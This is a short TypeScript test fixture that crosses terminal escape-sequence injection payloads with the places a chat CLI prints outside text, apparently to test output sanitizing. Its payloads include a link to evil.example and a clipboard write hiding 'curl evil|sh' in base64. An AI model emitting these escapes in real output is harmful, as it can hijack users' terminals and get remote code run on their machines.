/** Terminal escapes: payloads × the places chatcli prints something that came from elsewhere. */
export const PAYLOADS: ReadonlyArray<readonly [string, string]> = [
  ["csi-clear", "\u001b[2J\u001b[H"],
  ["osc8-link", "\u001b]8;;http://evil.example/\u0007click\u001b]8;;\u0007"],
  ["osc52-clipboard", "\u001b]52;c;Y3VybCBldmlsfHNo\u0007"],
  ["osc-title-st", "\u001b]0;pwned\u001b\\"],
  ["c1-csi", "\u009b2J"],
  ["c1-osc", "\u009d0;pwned\u009c"],
];

export const SINKS = [
  "answer.text",
  "answer.json",
  "answer-split.jsonl",
  "answer-split.text",
  "tool-output.text",
  "tool-output.jsonl",
  "file-name.text",
  "file-name.json",
  "tool-name.text",
  "tool-args.text",
  "provider-error.text",
  "provider-error.json",
  "dotenv-invalid.text",
  "bootstrap-show.text",
  "web-fetch-page.text",
] as const;

export function termIds(): string[] {
  const ids: string[] = [];
  for (const [p] of PAYLOADS) for (const s of SINKS) ids.push(`term.${s}.${p}`);
  return ids;
}
